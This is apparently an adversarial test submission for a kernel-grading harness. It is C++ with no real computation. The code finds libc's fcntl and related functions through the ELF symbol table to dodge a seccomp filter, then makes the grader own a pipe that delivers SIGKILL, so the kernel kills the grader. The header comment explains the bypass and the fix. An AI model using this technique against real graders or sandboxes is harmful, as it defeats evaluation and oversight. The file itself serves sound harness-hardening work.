// expect: gpu=attacked-grader emu=attacked-grader  args=--sizes=1000,--blocks=256 -- Has no kernel: makes a pipe of its own, names the grader (its parent) the owner of the read end (fcntl F_SETOWN), picks SIGKILL as the signal the kernel sends that owner when data arrives (F_SETSIG), turns O_ASYNC on and writes a byte: the kernel, not the submission, kills the grader, and no kill(2) was ever made for the filter to see.  On the emulator Landlock's signal scope (ABI 6) held it; on a GPU, whose graded process has no Landlock, and on an older kernel, nothing did.  The seccomp filter (harness/run/guard.c) now ends a process that makes another process a descriptor's owner.  fcntl is reached through libc's symbol table, never named.
// mistake: no kernel; the grader made the owner of a pipe that signals SIGKILL
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>
#include <fcntl.h>
#include <csignal>
#include <unistd.h>

// libc's own definition of `want`: its image starts with an ELF header on a
// page boundary below printf; its dynamic section names the symbol table.
static void *from_libc(const char *want)
{
    const char *page = (const char *)((uintptr_t)(void *)&printf & ~(uintptr_t)0xfff);
    while (std::memcmp(page, "\177ELF", 4) != 0)
        page -= 0x1000;
    const Elf64_Ehdr *elf = (const Elf64_Ehdr *)page;
    const Elf64_Phdr *seg = (const Elf64_Phdr *)(page + elf->e_phoff);
    const Elf64_Dyn *d = nullptr;
    for (unsigned k = 0; k < elf->e_phnum && !d; k++)
        if (seg[k].p_type == PT_DYNAMIC)
            d = (const Elf64_Dyn *)(page + seg[k].p_vaddr);
    const Elf64_Sym *tab = nullptr;
    const char *str = nullptr;
    for (; d && d->d_tag != DT_NULL; d++) {
        const char *at = (const char *)d->d_un.d_ptr;
        if (at < page)
            at = page + d->d_un.d_ptr;
        if (d->d_tag == DT_SYMTAB)
            tab = (const Elf64_Sym *)at;
        else if (d->d_tag == DT_STRTAB)
            str = at;
    }
    if (!tab || !str)
        return nullptr;
    for (const Elf64_Sym *s = tab + 1; (const char *)s < str; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(str + s->st_name, want) == 0)
            return (void *)(page + s->st_value);
    return nullptr;
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    auto mkpipe = (int (*)(int *))from_libc("pipe");
    auto ctl = (int (*)(int, int, ...))from_libc("fcntl");
    auto parent = (pid_t (*)(void))from_libc("getppid");
    auto put = (ssize_t (*)(int, const void *, size_t))from_libc("write");
    int fd[2];
    if (!mkpipe || !ctl || !parent || !put || mkpipe(fd) != 0)
        return;
    ctl(fd[0], F_SETOWN, (int)parent());
    ctl(fd[0], 10 /* F_SETSIG */, SIGKILL);
    ctl(fd[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    put(fd[1], "x", 1);
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
